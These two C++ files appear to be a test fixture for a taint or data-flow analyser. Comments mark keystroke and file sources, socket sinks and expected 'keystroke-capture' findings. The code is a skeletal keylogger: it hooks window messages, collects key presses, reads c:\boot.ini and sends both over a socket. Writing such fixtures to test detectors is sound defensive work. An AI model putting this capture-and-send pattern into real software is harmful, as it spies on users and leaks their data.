// --- path: keys.hpp ---
// Static methods that are defined outside of their class: whoever is given one calls it without an object.
#include <windows.h>

class Keys {
public:
    static LRESULT OnMessage(int code, WPARAM first, LPARAM second);
    static DWORD Work(LPVOID given);
    void Start(SOCKET wire);
    void Flush();
    void Quiet();
    SOCKET wire;
    char text[100];
};
// --- path: keys.cpp ---
#include "keys.hpp"

static char pressed[100];

LRESULT Keys::OnMessage(int code, WPARAM first, LPARAM second) {
    MSG *message = (MSG *)second;
    char key[2];
    key[0] = message->wParam;
    if (code == 0) lstrcat(pressed, key);
    return 0;
}

DWORD Keys::Work(LPVOID given) {
    Keys *self = (Keys *)given;
    send(self->wire, self->text, 10, 0); //~ sink(egress.socket) s2, finding(traced) s2
    return 0;
}

void Keys::Start(SOCKET to) {
    wire = to;
    SetWindowsHookEx(WH_GETMESSAGE, OnMessage, 0, 0); //~ source(KEYSTROKE) s1
    HANDLE file = CreateFileA("c:\\boot.ini", GENERIC_READ, 0, 0, OPEN_EXISTING, 0, 0);
    DWORD count;
    ReadFile(file, text, 100, &count, 0); //~ source(FILE) s2
    CreateThread(0, 0, Work, this, 0, 0);
}

void Keys::Flush() {
    send(wire, pressed, 10, 0); //~ sink(egress.socket) s1, finding(keystroke-capture, traced) s1
}

void Keys::Quiet() {
    char none[2] = {0, 0};
    send(wire, none, 2, 0); //~ ok
}
